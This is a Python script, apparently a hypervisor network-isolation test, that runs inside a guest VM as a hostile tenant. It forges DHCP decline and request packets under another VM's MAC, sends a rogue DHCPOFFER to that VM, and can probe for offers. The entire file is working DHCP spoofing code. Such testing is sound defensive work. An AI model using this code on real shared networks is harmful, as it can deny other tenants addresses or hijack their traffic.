"""Run as root inside a guest: DHCP packets naming another VM's MAC, as a hostile tenant would.

    python3 dhcp_forge.py IFACE OWN_IP OWN_MAC GATEWAY VICTIM_MAC VICTIM_IP
    python3 dhcp_forge.py probe IFACE MAC     (a DHCPDISCOVER; prints OFFER or NONE)

Sends, each once: a DHCPDECLINE and a DHCPREQUEST from the guest's own address (a UDP
socket, port 68), a DHCPREQUEST from 0.0.0.0 (a raw frame, as a client without an address
sends), all with the victim's MAC as `chaddr`; and a DHCPOFFER from port 67 (a rogue server)
to the victim. Prints what it sent. Standard library only (the Debian guest's python3).
"""

from __future__ import annotations

import socket
import struct
import sys

DISCOVER, OFFER, REQUEST, DECLINE = 1, 2, 3, 4


def bootp(op: int, kind: int, chaddr: bytes, *, requested: str = "", server: str = "",
          yiaddr: str = "0.0.0.0") -> bytes:
    header = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", op, 1, 6, 0, 0x7474_0022, 0, 0x8000,
                         bytes(4), socket.inet_aton(yiaddr), bytes(4), bytes(4), chaddr, b"", b"")
    options = bytes([53, 1, kind])
    if requested:
        options += bytes([50, 4]) + socket.inet_aton(requested)
    if server:
        options += bytes([54, 4]) + socket.inet_aton(server)
    return header + b"\x63\x82\x53\x63" + options + b"\xff"


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def raw_frame(src_mac: bytes, payload: bytes) -> bytes:
    """Broadcast Ethernet + IPv4 from 0.0.0.0 + UDP 68 -> 67 (no UDP checksum: allowed in IPv4)."""
    udp = struct.pack("!HHHH", 68, 67, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                     bytes(4), b"\xff\xff\xff\xff")
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return b"\xff" * 6 + src_mac + b"\x08\x00" + ip + udp


def main(iface: str, own_ip: str, own_mac: str, gateway: str, victim_mac: str, victim_ip: str) -> None:
    chaddr = bytes.fromhex(victim_mac.replace(":", ""))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        udp.bind((own_ip, 68))
        udp.sendto(bootp(1, DECLINE, chaddr, requested=victim_ip, server=gateway), (gateway, 67))
        udp.sendto(bootp(1, REQUEST, chaddr, requested=victim_ip, server=gateway), (gateway, 67))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((iface, 0))
        raw.send(raw_frame(bytes.fromhex(own_mac.replace(":", "")),
                           bootp(1, REQUEST, chaddr, requested=victim_ip, server=gateway)))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind((own_ip, 67))
        server.sendto(bootp(2, OFFER, chaddr, server=own_ip, yiaddr=own_ip), (victim_ip, 68))
    print("SENT 4")


def probe(iface: str, mac: str, wait_s: float = 4.0) -> None:
    """A client without an address asks for one: is there an offer for this MAC?"""
    import time

    own = bytes.fromhex(mac.replace(":", ""))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as raw:
        raw.bind((iface, 0))
        raw.send(raw_frame(own, bootp(1, DISCOVER, own)))
        raw.settimeout(0.5)
        end = time.monotonic() + wait_s
        while time.monotonic() < end:
            try:
                frame = raw.recv(2048)
            except TimeoutError:
                continue
            ip = frame[14:]
            if len(ip) < 28 or ip[9] != 17:
                continue
            udp = ip[(ip[0] & 0x0F) * 4:]
            bootp_reply = udp[8:]
            if struct.unpack("!H", udp[2:4])[0] == 68 and bootp_reply[:1] == b"\x02" \
                    and bootp_reply[28:34] == own:
                print("OFFER")
                return
    print("NONE")


if __name__ == "__main__":
    if sys.argv[1] == "probe":
        probe(sys.argv[2], sys.argv[3])
    else:
        main(*sys.argv[1:7])
